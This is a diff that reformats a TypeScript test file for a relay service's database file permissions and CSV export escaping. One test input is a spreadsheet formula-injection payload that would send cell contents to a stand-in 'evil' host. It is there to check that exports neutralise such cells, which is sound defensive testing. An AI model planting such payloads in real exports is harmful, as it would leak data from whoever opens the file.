@@ -26,7 +26,7 @@ test('database folder 0700, database files 0600; a readable database left by an 
     fresh.kv.set('x', '1').catch(() => undefined);
     assert.equal(mode(app), 0o700);
     assert.equal(mode(file), 0o600);
-    assert.equal(mode(`${file}-wal`), 0o600, 'SQLite gives the WAL the database file\'s mode');
+    assert.equal(mode(`${file}-wal`), 0o600, "SQLite gives the WAL the database file's mode");
     void fresh.close();
     chmodSync(app, 0o755);
     for (const f of [file, `${file}-wal`, `${file}-shm`]) {
@@ -85,7 +85,18 @@ test('crs export --decrypt into an existing world-readable file leaves it 0600',
 });
 
 test('CSV exports: formula-like text gets a leading quote mark; numbers stay numbers', async () => {
-  const csv = toCsv(['name', 'n'], [['=1+1', 1], ['+A1', -2], ['-A1', 3], ['@SUM(A1)', 4], ['\tx', 5], ['\rx', 6], ['plain', 7]]);
+  const csv = toCsv(
+    ['name', 'n'],
+    [
+      ['=1+1', 1],
+      ['+A1', -2],
+      ['-A1', 3],
+      ['@SUM(A1)', 4],
+      ['\tx', 5],
+      ['\rx', 6],
+      ['plain', 7],
+    ],
+  );
   const lines = csv.slice(1).trim().split('\r\n');
   assert.deepEqual(lines, ['name,n', `"'=1+1",1`, `"'+A1",-2`, `"'-A1",3`, `"'@SUM(A1)",4`, `"'\tx",5`, `"'\rx",6`, 'plain,7']);
 
@@ -93,7 +104,20 @@ test('CSV exports: formula-like text gets a leading quote mark; numbers stay num
   try {
     const { id } = await t.createKey();
     for (const model of ['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(1)', 'claude-sonnet-4-5']) {
-      t.relay.recorder.record({ requestId: `r-${model}`, ts: Date.now(), keyId: id, accountId: null, model, endpoint: '/v1/messages', stream: false, status: 200, durationMs: 1, usage: null, partial: false, errorCode: null });
+      t.relay.recorder.record({
+        requestId: `r-${model}`,
+        ts: Date.now(),
+        keyId: id,
+        accountId: null,
+        model,
+        endpoint: '/v1/messages',
+        stream: false,
+        status: 200,
+        durationMs: 1,
+        usage: null,
+        partial: false,
+        errorCode: null,
+      });
     }
     await t.recorded(id, 3);
     const res = await fetch(`${t.url}/admin/usage/breakdown.csv?dimension=model`, { headers: { authorization: `Bearer ${t.adminToken}` } });
